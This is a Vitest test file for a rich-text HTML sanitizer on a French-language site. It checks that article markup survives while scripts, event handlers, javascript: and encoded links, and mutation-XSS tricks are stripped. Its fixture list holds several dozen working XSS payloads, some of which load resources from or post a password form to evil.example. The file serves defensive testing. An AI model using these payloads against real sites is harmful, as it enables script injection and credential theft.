import { describe, expect, test } from "vitest";
import { ARTICLE_ELEMENTS } from "#shared/article-elements.ts";
import { isEmptyRichText, plainText, sanitizeRichText } from "./rich-text.ts";

/** Code that must never run, however it is written. */
const NASTY = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="/public/a.webp" onerror="alert(1)" onload=alert(1) style="width:1px">',
  "<img src='https://evil.example/pixel.gif'>",
  '<img src="/public/../api/v01/auth/logout">',
  '<img src="//evil.example/public/a.webp">',
  '<img srcset="https://evil.example/a.webp 1x" src="/public/a.webp">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;&#97;vascript&#58;alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="java\u0000script:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/\t/evil.example">a</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red">a</a>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mtext></p><style><img src=x onerror="alert(1)"></style></mtext></math>',
  "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<style>body{background:url(//evil.example)}</style>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"><p>a</p></iframe>',
  "<object data='x.swf'></object><embed src='x.swf'>",
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<p style="position:fixed;inset:0" class="dialog" id="main" data-x="1">a</p>',
  '<table background="javascript:alert(1)"><tr><td style="x:expression(alert(1))" colspan="9999999">a</td></tr></table>',
  '<video src=x onerror=alert(1)><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle="alert(1)">a</details><body onload=alert(1)>',
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>alert(1)</script>'; ?>",
  "<p <script>alert(1)</script>>a</p>",
  '<p title="</p><script>alert(1)</script>">a</p>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "<a href='https://ok.example/\"onmouseover=\"alert(1)'>a</a>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
  "<img src=x onerror=alert(1)",
  "<",
  "<<<>>>",
  "</p></div></script>",
] as const;

/** Texts made of pieces of nasty ones, the same in every run. */
function mixed(count: number): string[] {
  let state = 20_261_121;
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state % below;
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 2 + next(5) }, () => {
      const text = NASTY[next(NASTY.length)] ?? "";
      const start = next(text.length);
      return text.slice(start, start + 1 + next(40));
    }).join(""),
  );
}

const TAG = /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g;
const KNOWN = new Set<string>(ARTICLE_ELEMENTS);

/** Whatever remains is a known tag with known attributes, and nothing that could be taken for another. */
function expectHarmless(html: string): void {
  for (const [, tag = "", attributes = ""] of html.matchAll(TAG)) {
    expect(KNOWN.has(tag), `${tag} in ${html}`).toBe(true);
    for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|\/(?![/\\\t]))/);
      else if (name === "src") expect(value).toMatch(/^\/public\/[\w./-]+$/);
      else expect(["rel", "alt", "width", "height", "colspan", "rowspan", "scope", "start"]).toContain(name);
    }
  }
  expect(html.replace(TAG, "")).not.toMatch(/[<>]/);
  expect(openAtTheEnd(html), html).toEqual([]);
}

/** The tags that nothing closes, or something else does. */
function openAtTheEnd(html: string): string[] {
  const open: string[] = [];
  for (const [text, tag = ""] of html.matchAll(TAG)) {
    if (text.endsWith("/>")) continue;
    if (!text.startsWith("</")) open.push(tag);
    else if (open.at(-1) === tag) open.pop();
    else return [...open, text];
  }
  return open;
}

describe("an article's HTML", () => {
  test.each(NASTY)("loses what could run: %j", (html) => {
    expectHarmless(sanitizeRichText(html));
  });

  test("loses what could run from any mixture, and is not changed by doing it again", () => {
    for (const html of [...NASTY, ...mixed(2_000)]) {
      const once = sanitizeRichText(html);
      expectHarmless(once);
      expect(sanitizeRichText(once)).toBe(once);
    }
  });

  test("is nested 40 deep at most, and keeps the words below", () => {
    const nested = (depth: number) => `<p>avant</p>${"<b>".repeat(depth)}mot${"</b>".repeat(depth)}<p>après</p>`;
    const flat = sanitizeRichText(nested(1_000));
    expect(flat).toBe(`<p>avant</p>${"<strong>".repeat(40)}mot${"</strong>".repeat(40)}<p>après</p>`);
    expect(sanitizeRichText(nested(30_000))).toBe(flat);
    expect(sanitizeRichText(flat)).toBe(flat);
    expect(plainText("<i>".repeat(30_000), 100)).toBe("");
  });

  test("keeps what an article is made of", () => {
    const article =
      "<h2>Le chantier</h2><p>Un <strong>puits</strong>, <em>enfin</em> : <u>6</u> <s>7</s> mois.<br />Merci.</p>" +
      '<blockquote><p>« Voilà »</p></blockquote><ul><li>un</li></ul><ol start="3"><li>1<sup>er</sup>, CO<sub>2</sub></li></ol><hr />' +
      '<figure><img src="/public/pictures/ab12/puits-1200x750.webp" alt="Le puits" width="1200" height="750" /><figcaption>Le puits</figcaption></figure>' +
      '<table><caption>Coûts</caption><thead><tr><th scope="col">Poste</th></tr></thead><tbody><tr><td colspan="2">Pompe</td></tr></tbody></table>';
    expect(sanitizeRichText(article)).toBe(article);
  });

  test("has films as figures with a link, and no player", () => {
    const film =
      '<figure><a href="https://www.youtube.com/watch?v=aB3-_x9YzQ0" rel="external noopener noreferrer">Le puits</a></figure>';
    expect(sanitizeRichText(film)).toBe(film);
    const player = '<iframe src="https://www.youtube.com/embed/aB3-_x9YzQ0"></iframe>';
    expect(sanitizeRichText(`<p>a</p>${player}<figure class="rich-text-film" data-film="x">${player}b</figure>`)).toBe(
      "<p>a</p><figure>b</figure>",
    );
    expect(sanitizeRichText('<figure><a href="javascript:alert(1)">Le puits</a></figure>')).toBe(
      "<figure>Le puits</figure>",
    );
  });

  test("says where its links lead: to this site, elsewhere, to a mail or a telephone", () => {
    expect(sanitizeRichText('<a href="/dons/forage-kouto">a</a>')).toBe('<a href="/dons/forage-kouto">a</a>');
    expect(sanitizeRichText('<a href="https://exemple.ci/?a=1&b=2">a</a>')).toBe(
      '<a href="https://exemple.ci/?a=1&amp;b=2" rel="external noopener noreferrer">a</a>',
    );
    expect(sanitizeRichText('<a href="tel:+2250700000000">a</a>')).toContain('href="tel:+2250700000000"');
    expect(sanitizeRichText('<a href="ftp://exemple.ci">texte</a>')).toBe("texte");
    expect(sanitizeRichText('<a href="ftp://a.ci">a</a> <a href="/dons">b</a> c')).toBe('a <a href="/dons">b</a> c');
  });

  test("has one way to write each thing", () => {
    expect(sanitizeRichText("<h1>a</h1><p><b>b</b> <i>c</i> <del>d</del></p>")).toBe(
      "<h2>a</h2><p><strong>b</strong> <em>c</em> <s>d</s></p>",
    );
    expect(sanitizeRichText("<h4>a</h4><h6>b</h6>")).toBe("<h3>a</h3><h3>b</h3>");
    for (const start of ["0", "-2", "1000", "3a", ""]) {
      expect(sanitizeRichText(`<ol start="${start}" type="a"><li>a</li></ol>`)).toBe("<ol><li>a</li></ol>");
    }
  });

  test("has no link that holds a name or a password: only its text", () => {
    expect(sanitizeRichText('<p><a href="https://nom:secret@exemple.org/">ici</a></p>')).toBe("<p>ici</p>");
    expect(sanitizeRichText('<p><a href="https://exemple.org/@a">ici</a></p>')).toContain(
      'href="https://exemple.org/@a"',
    );
  });
});

describe("the text of an article", () => {
  test("has no markup and no entity, and words of different blocks stay apart", () => {
    expect(
      plainText("<h2>Un</h2><p>d<em>eu</em>x&nbsp;: A &amp; B &lt; C</p><ul><li>trois</li><li>quatre</li></ul>", 99),
    ).toBe("Un. deux\u00a0: A & B < C trois, quatre.");
  });

  test.each([
    [
      "<p>Prêt.</p><h2>Le gravier est prêt</h2><p>Trente charrettes.</p>",
      "Prêt. Le gravier est prêt. Trente charrettes.",
    ],
    ["<h3>A &amp; <em>B</em> <br /></h3><p>Oui.</p>", "A & B. Oui."],
    ["<h2>Et après\u202f?</h2><p>Oui.</p>", "Et après\u202f? Oui."],
    ["<h2>«\u00a0Merci\u202f!\u00a0»</h2><p>Oui.</p>", "«\u00a0Merci\u202f!\u00a0» Oui."],
    ["<h2>En trois chiffres\u00a0:</h2><p>Oui.</p>", "En trois chiffres\u00a0: Oui."],
    ["<h2></h2><p>Oui.</p>", "Oui."],
  ])("ends its headings, where they do not end themselves: %s", (html, expected) => {
    expect(plainText(html, 99)).toBe(expected);
  });

  test.each([
    ["<ul><li><p>Tables</p></li><li><p>Bancs</p></li></ul><p>La rentrée.</p>", "Tables, Bancs. La rentrée."],
    ["<ol><li>Creuser.</li><li>Couvrir\u202f!</li></ol><p>Voilà.</p>", "Creuser. Couvrir\u202f! Voilà."],
    [
      "<ul><li><p>Le toit\u00a0:</p><ul><li><p>tôles</p></li><li><p>clous</p></li></ul></li></ul>",
      "Le toit\u00a0: tôles, clous.",
    ],
    [
      "<p>Début.</p><table><thead><tr><th>Poste</th><th>Coût</th></tr></thead><tbody><tr><td>Tôles</td><td>450</td></tr></tbody></table><p>Fin.</p>",
      "Début. Fin.",
    ],
    ['<figure><a href="https://www.youtube.com/watch?v=aB3-_x9YzQ0">Le puits</a></figure><p>Fin.</p>', "Fin."],
    [
      '<figure><img src="/public/a-12x12.webp" alt="Le puits" /><figcaption>Le puits</figcaption></figure><p>Fin.</p>',
      "Fin.",
    ],
  ])("tells its sentences, lists with signs, and neither tables nor films: %s", (html, expected) => {
    expect(plainText(html, 99)).toBe(expected);
  });

  test("of nothing but a table is not empty", () => {
    expect(isEmptyRichText("<table><tbody><tr><td>Tôles</td></tr></tbody></table>")).toBe(false);
    expect(isEmptyRichText("<p> </p>")).toBe(true);
  });

  test("has no space within a word that holds a raised sign", () => {
    expect(plainText("<p>Le 1<sup>er</sup> m<sup>2</sup></p>", 99)).toBe("Le 1er m2");
  });

  test("is cut between two words, with an ellipsis", () => {
    expect(plainText("<p>Le village a de l’eau, enfin.</p>", 22)).toBe("Le village a de l’eau…");
    expect(plainText("<p>court</p>", 22)).toBe("court");
    expect(plainText(`<p>${"a".repeat(50)}</p>`, 10)).toBe(`${"a".repeat(10)}…`);
  });

  test("is the same however much markup stands before its words", () => {
    for (const attribute of ["", ` title="${"long ".repeat(50)}"`]) {
      for (let blanks = 0; blanks < 12; blanks += 1) {
        const html = `<p${attribute}>${"&#32;".repeat(blanks)}un &amp; <strong>deux</strong> &lt; trois quatre</p>`;
        expect(plainText(html, 9)).toBe("un & deux…");
      }
    }
  });
});
